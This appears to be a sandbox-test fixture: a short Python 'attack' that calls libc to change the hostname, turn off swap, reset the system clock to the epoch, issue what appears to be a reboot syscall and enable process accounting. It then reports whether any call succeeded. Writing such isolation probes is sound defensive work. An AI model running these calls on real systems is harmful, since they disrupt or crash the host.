# /// attack
# title = "Changes the machine: clock, name, swap, power"
# moments = ["exit"]
# ///
import ctypes
import platform


def attack():
    libc = ctypes.CDLL(None)
    done = [
        libc.sethostname(b"mine", 4), libc.swapoff(b"/nowhere"), libc.settimeofday((ctypes.c_long * 2)(0, 0), None),
        libc.syscall({"x86_64": 169, "aarch64": 142}[platform.machine()], 0, 0, 0, 0), libc.acct(b"/tmp/x"),
    ]
    return done if 0 in done else None
